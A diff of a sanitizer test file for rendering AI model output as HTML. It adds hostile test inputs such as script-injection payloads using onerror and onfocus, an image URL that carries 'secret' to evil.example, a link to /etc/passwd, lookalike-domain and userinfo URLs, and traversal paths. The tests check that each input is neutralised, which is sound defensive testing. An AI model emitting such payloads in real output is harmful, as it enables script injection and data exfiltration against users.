@@ -1,8 +1,8 @@
 import { describe, expect, it } from 'vitest';
 
-import { createSanitizer } from '../../src/markdown/sanitizer';
+import { sanitizer as create } from '../support/services';
 
-const sanitizer = createSanitizer('remote image');
+const sanitizer = create();
 
 function clean(html: string): HTMLElement {
   const host = document.createElement('div');
@@ -27,7 +27,10 @@ describe('what a model says', () => {
     '<object data=//evil></object>',
     '<video src=//evil autoplay></video>',
     '<a href="x" ping="//evil">x</a>',
-    '<input type="image" src="//evil">'
+    '<input type="image" src="//evil">',
+    '<div popover class="jp-Dialog jp-llmhub-load" role="alert" aria-label="x" data-host="a">x</div>',
+    '<a class="jp-llmhub-file-link" data-path="/etc/passwd">x</a>',
+    '<textarea autofocus onfocus=alert(1)><img src=x onerror=alert(1)></textarea>'
   ])('does nothing: %s', html => {
     const host = clean(html);
     const all = [...host.querySelectorAll('*')];
@@ -37,21 +40,33 @@ describe('what a model says', () => {
       )
     ).toEqual([]);
     const names = all.flatMap(node => [...node.attributes].map(attribute => attribute.name));
-    expect(names.filter(name => /^(on|data-|id$|name$|style$|ping$|srcset$|formaction$)/.test(name))).toEqual(
-      []
-    );
+    expect(
+      names.filter(name =>
+        /^(on|data-(?!host|path)|id$|name$|style$|ping$|srcset$|formaction$|popover|role$|aria-)/.test(name)
+      )
+    ).toEqual([]);
     expect(all.filter(node => /^\s*javascript:/i.test(node.getAttribute('href') ?? ''))).toEqual([]);
     expect(host.querySelector('img[src], input[src]')).toBeNull();
   });
 
-  it('fetches no image from elsewhere; a link stands in its place', () => {
+  it('fetches no image from elsewhere; its host and a button stand in its place', () => {
     const host = clean(
       '<p><img src="https://evil.example/?q=secret" alt="a plot" srcset="https://evil.example 2x"></p>'
     );
     expect(host.querySelector('img')).toBeNull();
-    const link = host.querySelector('a');
-    expect(link?.textContent).toBe('[remote image: a plot]');
-    expect(link?.rel).toBe('noopener noreferrer');
+    expect(host.textContent).toBe('Image: a plotLoad images from evil.example');
+    expect(host.querySelector('button')?.dataset['host']).toBe('evil.example');
+  });
+
+  it('shows the images of a host that a person asked for, and of no other', () => {
+    const host = document.createElement('div');
+    const source =
+      '<img src="https://good.example/a.png"><img src="https://good.example.evil.example/b.png">';
+    host.append(sanitizer.clean(source, name => name === 'good.example'));
+    const image = host.querySelector('img');
+    expect(image?.src).toBe('https://good.example/a.png');
+    expect(image?.referrerPolicy).toBe('no-referrer');
+    expect(host.querySelectorAll('img')).toHaveLength(1);
   });
 
   it('keeps an image that is in the message itself', () => {
@@ -68,8 +83,37 @@ describe('what a model says', () => {
     expect(host.querySelector('input')?.disabled).toBe(true);
   });
 
-  it('opens links in a tab of their own', () => {
-    const link = clean('<a href="https://example.org">x</a>').querySelector('a');
+  it('opens links in a tab of their own, and says where they lead', () => {
+    const link = clean('<a href="https://example.org/\u202Egnp.exe" title="a title">x</a>').querySelector(
+      'a'
+    );
     expect([link?.target, link?.rel]).toEqual(['_blank', 'noopener noreferrer']);
+    expect(link?.title).toBe('https://example.org/%E2%80%AEgnp.exe\na title');
+  });
+
+  it.each([
+    ['https://google.com@evil.example/', 'https://evil.example/'],
+    ['HTTP://EX.example', 'http://ex.example/'],
+    ['http://xn--pple-43d.com/', 'http://xn--pple-43d.com/'],
+    ['http://\u0430pple.com/', 'http://xn--pple-43d.com/'],
+    ['mailto:a@b.example', 'mailto:a@b.example']
+  ])('%s leads to %s', (address, url) => {
+    const link = clean(`<a href="${address}">x</a>`).querySelector('a');
+    expect(link?.getAttribute('href')).toBe(url);
+  });
+
+  it.each(
+    'javascript:1 ftp://a tel:1 //evil.example /lab #x data:text/html,x a:b http:evil ..\\x.py ../x.py a/../../x.py x'.split(
+      ' '
+    )
+  )('%s is no link', address => {
+    const host = clean(`<a href="${address}">words</a>`);
+    expect(host.querySelector('[href], button')).toBeNull();
+    expect(host.textContent).toBe('words');
+  });
+
+  it('a path in the workspace is a button', () => {
+    const button = clean('<a href="./data/my%20table.csv#L3">x</a>').querySelector('button');
+    expect(button?.dataset['path']).toBe('data/my table.csv');
   });
 });
